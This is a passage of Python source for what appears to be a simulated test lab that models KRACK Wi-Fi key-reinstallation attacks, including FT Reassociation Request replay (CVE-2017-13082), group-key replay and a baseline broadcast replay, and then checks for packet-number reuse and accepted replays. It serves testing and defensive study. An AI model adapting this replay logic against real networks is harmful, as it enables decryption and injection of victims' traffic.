        self.mitm.release(m1, "attacker: delivers the held retransmitted group msg 1/2")
        self.stage = "done"
        self.at(0.05, self.replay)

    def replay(self) -> None:
        assert self.b is not None
        self.sent = self.replay_group([self.b], "a group-addressed frame the victim already received")
        # Watch long enough for the victim's reaction to be on the air (a replayed Radio Measurement
        # Request is answered within milliseconds; a passive analyser waits up to half a second for it).
        self.at(0.2 if self.replay_kind == "group-data" else 0.6, self.conclude)

    def conclude(self) -> None:
        n = self.count_replays(self.sent, self.lab.victim.trace.accepted)
        what = "broadcast data frame" if self.replay_kind == "group-data" else "BIP-protected robust action frame"
        if n:
            self.outcome.achieved.append(f"the victim accepted a replayed {what} after the group key was reinstalled")
            self.outcome.evidence.append("the retransmitted group msg 1/2 reset the victim's group replay counter")
        self.finish()


# --------------------------------------------------------------------------- FT (AP side)


FT_TARGET_CHANNEL = 6
FT_FIRST_CHANNEL = 1


class FtReassocReplay:
    """Paper 5, CVE-2017-13082, as krack-ft-test.py runs it: the client roams with FT over the air
    to the AP under test; the attacker captures its Reassociation Request (RSNE and FTE present) and
    replays it every second, watching the AP's transmit packet numbers; right after each replay it
    also replays a frame the client had sent the AP. No man-in-the-middle is needed."""

    variant = "replayed FT Reassociation Request"
    duration = 7.0

    def __init__(self, lab: FtLab) -> None:
        self.lab = lab
        self.outcome = Outcome(self.variant)
        w = lab.world
        self.cipher = w.net.pairwise
        self.port = w.air.port("attacker", FT_TARGET_CHANNEL, self._on_frame)
        self.reassoc: bytes | None = None
        self.seen_ap: list[tuple[float, bytes]] = []  # AP -> client protected data
        self.seen_sta: list[tuple[float, bytes]] = []  # client -> AP protected data
        self.replays: list[tuple[bytes, float]] = []

    def _on_frame(self, frame: bytes, channel: int) -> None:
        if len(frame) < 24:
            return
        fc0 = frame[0]
        a1, a2 = frame[4:10], frame[10:16]
        if fc0 == 0x20 and a2 == VICTIM_MAC and a1 == AP2_MAC and self.reassoc is None and b"\x37" in frame[24:]:
            self.reassoc = frame
            self.outcome.evidence.append("detected an FT Reassociation Request (RSNE and FTE present)")
            for k in range(1, 4):
                self.lab.world.loop.at(self.lab.now + 1.0 * k, self.replay_reassoc)
        elif fc0 & 0x0C == 0x08 and frame[1] & 0x40:
            if a2 == AP2_MAC and a1 == VICTIM_MAC:
                self.seen_ap.append((self.lab.now, frame))
            elif a2 == VICTIM_MAC and a1 == AP2_MAC:
                self.seen_sta.append((self.lab.now, frame))

    def replay_reassoc(self) -> None:
        assert self.reassoc is not None
        self.port.send(self.reassoc, "attacker: replays the FT Reassociation Request")
        self.lab.world.loop.at(self.lab.now + 0.005, self.replay_data)

    def replay_data(self) -> None:
        if not self.seen_sta:
            return
        frame = self.seen_sta[-1][1]
        self.port.send(frame, "attacker: replays a frame the client sent the AP")
        self.replays.append((frame, self.lab.now))
        self.outcome.replays_sent += 1

    def run(self) -> Outcome:
        self.lab.victim.connect(0.05)
        self.lab.world.loop.at(1.5, lambda: self.lab.victim.roam(AP2_MAC, FT_TARGET_CHANNEL))
        self.lab.run(self.duration)
        self._analyse()
        return self.outcome

    def _analyse(self) -> None:
        sniffed = [Sniffed(t, f, pn_of(f, self.cipher), self.cipher) for t, f in self.seen_ap]
        groups = reuse_groups(sniffed)
        if groups:
            pns = sorted({sniffed[g[0]].pn for g in groups})
            self.outcome.keystream_reuse = sum(len(g) for g in groups)
            self.outcome.evidence.append(
                f"the AP reused packet numbers {_ranges(pns)} under the same keystream after replayed "
                "Reassociation Requests (it reinstalled the PTK)")
        n = sum(1 for frame, t in self.replays if accepted_again(self.lab.ap2.trace.accepted, frame, t))
        self.outcome.replays_accepted = n
        if n:
            self.outcome.achieved.append(
                f"the AP accepted {n} replayed frame(s) of the client after reinstalling the PTK "
                "(its receive replay counter was reset)")


class FtLab:
    """Two APs of one mobility domain (FT-PSK) on two channels, the network behind both, and an FT
    client that starts on the first."""

    def __init__(self, *, seed: int, net: NetConfig, ap_profile: Profile, client_profile: Profile,
                 record: bool = True) -> None:
        self.seed = seed
        self.world = World(seed, net, record=record)
        w = self.world
        self.password = lab_password(seed)
        r0kh = b"krackwatch-r0kh"
        ft1 = FTConfig(net.mdid, r0kh, AP_MAC, net.ssid)
        ft2 = FTConfig(net.mdid, r0kh, AP2_MAC, net.ssid)
        self.ap = AccessPoint(w, name="ap1", bssid=AP_MAC, channel=FT_FIRST_CHANNEL, profile=ap_profile, ft=ft1)
        self.ap2 = AccessPoint(w, name="ap2", bssid=AP2_MAC, channel=FT_TARGET_CHANNEL, profile=ap_profile, ft=ft2)
        self.network = Network(w.loop, w.rng("network"), self._route, lan=net.lan)
        self.ap.network = self.network
        self.ap2.network = self.network
        self.victim = Client(w, name="victim", mac=VICTIM_MAC, profile=client_profile, bssid=AP_MAC,
                             channel=FT_FIRST_CHANNEL, password=self.password, ft=ft1)

    def _route(self, dst: bytes, src: bytes, ethertype: int, payload: bytes) -> None:
        """The wired side reaches a station through the AP it is connected to (group frames: both)."""
        for ap in (self.ap, self.ap2):
            sta = ap.stas.get(dst)
            if dst[0] & 1 or (sta is not None and sta.connected):
                ap.send_msdu(dst, src, ethertype, payload)

    @property
    def now(self) -> float:
        return self.world.loop.now

    def run(self, until: float) -> None:
        self.world.loop.run(until)


# --------------------------------------------------------------------------- baseline


class BroadcastReplay:
    """krackattacks-scripts ``--replay-broadcast``: no handshake is touched. The attacker records a
    broadcast frame the victim received and replays it: only a receiver without a group replay check
    accepts it."""

    variant = "replayed broadcast (no reinstallation)"
    duration = 3.0

    def __init__(self, lab: Lab) -> None:
        self.lab = lab
        self.outcome = Outcome(self.variant)
        self.port = lab.world.air.port("attacker", REAL_CHANNEL, self._on_frame)
        self.broadcasts: list[tuple[float, bytes]] = []
        self.sent: list[tuple[bytes, float]] = []

    def _on_frame(self, frame: bytes, channel: int) -> None:
        if len(frame) > 24 and frame[0] == 0x08 and frame[1] & 0x42 == 0x42 and frame[4] & 1 \
                and frame[10:16] == AP_MAC:
            self.broadcasts.append((self.lab.now, frame))

    def replay(self) -> None:
        for t, frame in self.broadcasts[-3:]:
            self.port.send(frame, f"attacker: replays a broadcast frame captured at {t:.3f}s")
            self.sent.append((frame, self.lab.now))
        self.outcome.replays_sent = len(self.sent)

    def run(self) -> Outcome:
        self.lab.victim.connect(0.05)
        self.lab.world.loop.at(2.2, self.replay)
        self.lab.run(self.duration)
        n = sum(1 for frame, t in self.sent if accepted_again(self.lab.victim.trace.accepted, frame, t))
        self.outcome.replays_accepted = n
        if n:
            self.outcome.achieved.append(f"the victim accepted {n} replayed broadcast frame(s)")
        return self.outcome
